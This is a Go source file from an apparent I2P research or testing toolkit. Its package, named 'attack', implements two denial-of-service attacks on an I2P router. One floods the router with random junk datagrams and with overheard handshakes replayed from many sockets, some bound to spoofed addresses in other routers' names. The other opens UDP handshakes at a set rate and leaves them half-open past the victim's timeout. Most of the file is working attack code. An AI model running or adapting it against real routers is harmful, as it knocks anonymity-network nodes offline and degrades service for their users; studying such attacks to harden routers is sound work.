package attack

import (
	"context"
	"crypto/rand"
	"errors"
	mathrand "math/rand/v2"
	"net"
	"net/netip"
	"sync"
	"time"

	"i2ptoolkit/pkg/routerinfo"
)

// Datagrams are what no session of the victim's has asked for: junk of all lengths, and whole
// handshakes that it has had before, from many addresses, and in the name of routers with which it
// has sessions.
type Datagrams struct {
	Victim *routerinfo.RouterInfo
	Bind   bindFunc
	Junk   []netip.AddrPort // from where junk comes
	Replay []netip.AddrPort // from where handshakes come again
	As     []netip.AddrPort // those of others, in whose name both come
	Rate   float64          // a second
	counts
}

// bindFunc gives a socket for datagrams; its address may be somebody else's.
type bindFunc func(ctx context.Context, at netip.AddrPort) (*net.UDPConn, error)

// datagramBatch is how many are sent at once.
const datagramBatch = 16

// What is counted of datagrams.
const (
	junkAnswers = "bytes in answer to junk"
	bytesOut    = "bytes that may be answered"
	bytesIn     = "bytes in answer to those"
)

// mouth is a socket that sends.
type mouth struct {
	*net.UDPConn
	junk, replay bool
	as           bool // in somebody else's name
}

// Run is Attack's.
func (d *Datagrams) Run(ctx context.Context) {
	s, err := shakeFrom(ctx, d.Bind, netip.AddrPortFrom(d.Replay[0].Addr(), 0), d.Victim, allFlights, 0)
	d.outcome("handshakes overheard", err)
	if err != nil {
		return
	}
	at, _ := targetOf(d.Victim)
	var mouths []mouth
	var wg sync.WaitGroup
	open := func(at []netip.AddrPort, m mouth, answers string) {
		for _, a := range at {
			conn, err := d.Bind(ctx, a)
			if err != nil {
				d.outcome("sockets", err)
				continue
			}
			m.UDPConn = conn
			mouths = append(mouths, m)
			wg.Go(func() { d.listen(conn, answers) })
		}
	}
	open(d.Junk, mouth{junk: true}, junkAnswers)
	open(d.Replay, mouth{replay: true}, bytesIn)
	open(d.As, mouth{junk: true, replay: true, as: true}, "bytes that came here for others")
	if len(mouths) == 0 {
		return
	}
	pace(ctx, d.Rate/datagramBatch, 4, func() { d.batch(mouths[mathrand.IntN(len(mouths))], s.sent, at.At) })
	for _, m := range mouths {
		m.Close()
	}
	wg.Wait()
}

// listen counts what comes in answer.
func (d *Datagrams) listen(conn *net.UDPConn, as string) {
	b := make([]byte, 2048)
	for {
		n, _, err := conn.ReadFromUDPAddrPort(b)
		if err != nil {
			return
		}
		d.add(as, n)
	}
}

// batch sends some datagrams from one socket.
func (d *Datagrams) batch(m mouth, heard [][]byte, to netip.AddrPort) {
	junk, replayed, out := 0, 0, 0
	for range datagramBatch {
		b := heard[mathrand.IntN(len(heard))]
		if m.junk && (!m.replay || mathrand.IntN(2) == 0) {
			b = make([]byte, 1+mathrand.IntN(1472))
			rand.Read(b)
			junk++
		} else {
			replayed++
			out += len(b)
		}
		if _, err := m.WriteToUDPAddrPort(b, to); err != nil {
			d.add("not sent: "+errors.Unwrap(err).Error(), 1)
		}
	}
	d.add("junk", junk)
	d.add("replayed", replayed)
	if !m.as {
		d.add(bytesOut, out)
	}
}

// HalfOpen is handshakes over UDP that are never ended.
type HalfOpen struct {
	Victim *routerinfo.RouterInfo
	Bind   bindFunc
	From   func() netip.Addr // of each
	Rate   float64           // a second
	counts
}

// halfOpenFor is longer than the victim waits for their end.
const halfOpenFor = 13 * time.Second

// Run is Attack's.
func (h *HalfOpen) Run(ctx context.Context) {
	pace(ctx, h.Rate, 8192, func() {
		s, err := shakeFrom(ctx, h.Bind, netip.AddrPortFrom(h.From(), 0), h.Victim, halfOpenFlights, halfOpenFor)
		h.outcome("half-open handshakes", err)
		h.add(bytesOut, s.out)
		h.add(bytesIn, s.in)
	})
}
